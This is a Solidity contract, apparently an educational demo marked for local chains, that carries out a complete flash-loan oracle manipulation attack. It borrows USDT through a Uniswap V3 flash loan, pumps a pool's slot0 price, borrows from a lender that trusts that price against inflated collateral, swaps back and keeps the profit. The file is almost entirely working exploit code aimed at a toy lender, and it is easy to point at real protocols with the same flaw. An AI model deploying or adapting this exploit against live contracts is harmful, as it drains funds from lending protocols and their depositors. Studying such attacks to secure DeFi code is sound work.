// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IUniswapV3Pool as ISwapXV3Pool} from "@uniswap/v3-core/contracts/interfaces/IUniswapV3Pool.sol";
import {IERC20, ToyLender} from "../security/ToyLender.sol";

/// 攻击演示，只在本地链使用：闪电贷借来 USDT 推高价格，按虚高的价格抵押借款，再把价格推回去。
contract Slot0AttackDemo {
    // 价格限制的两端：比池允许的边界各近一步，等于不设限制。
    uint160 private constant LOWEST = 4295128739 + 1;
    uint160 private constant HIGHEST = 1461446703485210103287273052203988822378723970342 - 1;

    IERC20 public immutable wxoc;
    IERC20 public immutable usdt;
    ISwapXV3Pool public immutable market; // 受害合约读它的价格；WXOC 是 token0
    ISwapXV3Pool public immutable flashPool; // 另一个池，只用来借 USDT；USDT 是 token1

    constructor(ISwapXV3Pool market_, ISwapXV3Pool flashPool_) {
        (market, flashPool) = (market_, flashPool_);
        (wxoc, usdt) = (IERC20(market_.token0()), IERC20(market_.token1()));
        require(flashPool_.token1() == market_.token1());
    }

    // #region attack
    function attack(ToyLender lender, uint256 flashAmount, uint256 collateral) external {
        bytes memory data = abi.encode(lender, flashAmount, collateral);
        flashPool.flash(address(this), 0, flashAmount, data);
        usdt.transfer(msg.sender, usdt.balanceOf(address(this)));
    }

    function uniswapV3FlashCallback(uint256, uint256 fee1, bytes calldata data) external {
        require(msg.sender == address(flashPool));
        (ToyLender lender, uint256 flashAmount, uint256 collateral) = abi.decode(
            data,
            (ToyLender, uint256, uint256)
        );
        // 一、用借来的 USDT 买入 WXOC，把 slot0 的价格推高。
        market.swap(address(this), false, int256(flashAmount), HIGHEST, "");
        // 二、按虚高的价格抵押一小部分 WXOC，借出 USDT。
        wxoc.approve(address(lender), collateral);
        lender.borrow(collateral);
        // 三、卖回其余的 WXOC。
        market.swap(address(this), true, int256(wxoc.balanceOf(address(this))), LOWEST, "");
        // 四、归还闪电贷，余下的就是从受害合约拿走的。
        uint256 owed = flashAmount + fee1;
        require(usdt.balanceOf(address(this)) >= owed, "Slot0AttackDemo: CANNOT_REPAY");
        usdt.transfer(address(flashPool), owed);
    }
    // #endregion attack

    function uniswapV3SwapCallback(int256 amount0, int256 amount1, bytes calldata) external {
        require(msg.sender == address(market));
        if (amount0 > 0) wxoc.transfer(address(market), uint256(amount0));
        if (amount1 > 0) usdt.transfer(address(market), uint256(amount1));
    }
}
